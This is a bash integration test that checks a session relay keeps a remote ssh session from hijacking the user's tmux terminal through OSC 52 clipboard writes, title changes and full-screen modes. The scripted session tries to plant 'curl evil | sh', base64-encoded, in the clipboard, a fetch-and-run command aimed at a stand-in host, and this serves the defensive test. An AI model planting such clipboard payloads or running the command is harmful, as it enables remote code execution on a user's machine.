#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# The human's terminal stays the human's (issue 17): in a tmux pane, `ssh -tt` into a session that
# sets tmux's paste buffer with OSC 52 (plainly and through tmux's DCS passthrough), sets the pane
# title, and turns on the alternate screen, mouse tracking and bracketed paste, then exits. During
# the session its full-screen modes reach the pane and a resize reaches the session; after it,
# tmux's buffers and the pane title are as they were and the pane is out of the alternate screen
# with mouse tracking off. Then the same with the policy allowing the clipboard and the title:
# they are set, which shows that the test can see them.
#
# Usage: test-terminal.sh BUILD-DIR   (or MESON_BUILD_ROOT)

set -u
T_TAG=rcctm
# shellcheck source=tests/integration/session-env.sh
. "$(dirname "$0")/session-env.sh"
t_require_cmd tmux tmux

TMUX_SOCK="$T/tmux.sock"
tm() { tmux -S "$TMUX_SOCK" "$@"; }
t_add_cleanup "tmux -S $TMUX_SOCK kill-server 2>/dev/null"

# What the session does: base64 of "curl evil | sh" and of "passthrough" to the clipboard, a title,
# the full-screen modes; its terminal's size before and after the test resizes the pane (into the
# project); exit 3.
SESSION='stty size >/workspace/size1
printf "\033]52;c;Y3VybCBldmlsIHwgc2g=\007"
printf "\033Ptmux;\033\033]52;c;cGFzc3Rocm91Z2g=\007\033\\\\"
printf "\033]2;pwned-title\007\033]0;pwned-title\033\\\\"
printf "\033[?1049h\033[?1000h\033[?1006h\033[?2004h\033[?25l"
i=0; while [ "$(stty size)" = "30 100" ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i + 1)); done
stty size >/workspace/size2
sleep 0.5
exit 3'

# run_in_pane NAME: a tmux session NAME (100x30), clipboard passthrough and titles on, whose pane
# runs the session over ssh -tt and then stays; its exit status goes to $T/NAME.rc.
run_in_pane() {
        local name="$1"
        printf '%s\n' "$SESSION" >"$T/session.sh"
        cat >"$T/$name.pane" <<EOF
#!/bin/sh
ip netns exec $H ssh -F /dev/null -p 2222 -i $T/alice.key -o StrictHostKeyChecking=no \\
        -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR \\
        -o SetEnv=RCC_PROJECT=$PROJ -tt $ACCT@127.0.0.1 "\$(cat $T/session.sh)"
echo \$? >$T/$name.rc
exec sleep 600
EOF
        chmod 0755 "$T/$name.pane"
        rm -f "$T/$name.rc"
        tm new-session -d -s "$name" -x 100 -y 30 "$T/$name.pane"
}

tm -f /dev/null start-server \; set -g exit-empty off
# tmux takes OSC 52 from its panes into a buffer only with set-clipboard on, and lets DCS
# passthrough out only with allow-passthrough: both as permissive as tmux gets.
tm set -g set-clipboard on \; set -g allow-passthrough on \; set -g allow-rename on \; set -g default-size 100x30
tm new-session -d -s probe "sleep 600"
tm set-buffer -b human "the human's own buffer"

pane() { tm display -p -t "$1" "$2"; }

# wait_for NAME CONDITION-CMD: up to 60 s.
wait_for() {
        local i
        for i in $(seq 600); do
                eval "$2" && return 0
                sleep 0.1
        done
        return 1
}

# ----------------------------------------------------------------------------- the default policy

run_in_pane deny
tm select-pane -t deny -T "human-title"
if wait_for deny "pane deny '#{alternate_on}' | grep -q 1"; then
        ok "during the session, its alternate screen reaches the pane"
else
        not_ok "the session's alternate screen never reached the pane"
        t_show_output "$(tm capture-pane -p -t deny)" 30
fi
t_check_eq "during the session, mouse tracking reaches the pane" 1 "$(pane deny '#{mouse_any_flag}')"
# The pane resized while the session waits for it: the session's terminal follows.
tm resize-window -t deny -x 90 -y 25
wait_for deny "[ -e $T/deny.rc ]" || not_ok "the session did not end within a minute"
t_check_eq "the session's exit status comes back through the relay" 3 "$(cat "$T/deny.rc" 2>/dev/null)"
t_check_eq "the session's terminal starts with the pane's size" "30 100" "$(cat "$PROJ/size1" 2>/dev/null)"
t_check_eq "a resize of the pane reaches the session" "25 90" "$(cat "$PROJ/size2" 2>/dev/null)"
t_check_eq "after the session, tmux has no buffer but the human's" "human" "$(tm list-buffers -F '#{buffer_name}')"
t_check_eq "after the session, the pane title is the human's" "human-title" "$(pane deny '#{pane_title}')"
t_check_eq "after the session, the pane is out of the alternate screen" 0 "$(pane deny '#{alternate_on}')"
t_check_eq "after the session, mouse tracking is off" 0 "$(pane deny '#{mouse_any_flag}')"
t_check_eq "after the session, the cursor is shown" 1 "$(pane deny '#{cursor_flag}')"
grep -q "pwned-title" <(tm capture-pane -p -t deny) && not_ok "the title appears in the pane" ||
        ok "nothing of the dropped sequences shows in the pane"

# ----------------------------------------------------------------------------- allowed by policy

printf 'terminal:\n  clipboard: true\n  title: true\n' >>"$CONFIG_DIR/rcc.yaml"
t_check "rcc-setup apply with the terminal allowed" h_exec "$SETUP" --account "$ACCT" apply
tm delete-buffer -b human
run_in_pane allow
tm select-pane -t allow -T "human-title"
wait_for allow "pane allow '#{alternate_on}' | grep -q 1"
tm resize-window -t allow -x 90 -y 25
wait_for allow "[ -e $T/allow.rc ]" || not_ok "the session did not end within a minute"
# (The passthrough's wrapper is dropped; what it carried is filtered as if written plainly, here an
# allowed OSC 52 too.)
BUFS=$(tm list-buffers -F '#{buffer_sample}' 2>/dev/null)
[[ $BUFS == *"curl evil | sh"* ]] && ok "clipboard allowed: the session's OSC 52 sets tmux's buffer" ||
        { not_ok "clipboard allowed, yet the session's OSC 52 set no buffer"; t_show_output "$BUFS"; }
t_check_eq "title allowed: the session sets the pane title" "pwned-title" "$(pane allow '#{pane_title}')"
t_check_eq "and still, after the session, the pane is out of the alternate screen" 0 "$(pane allow '#{alternate_on}')"

t_finish
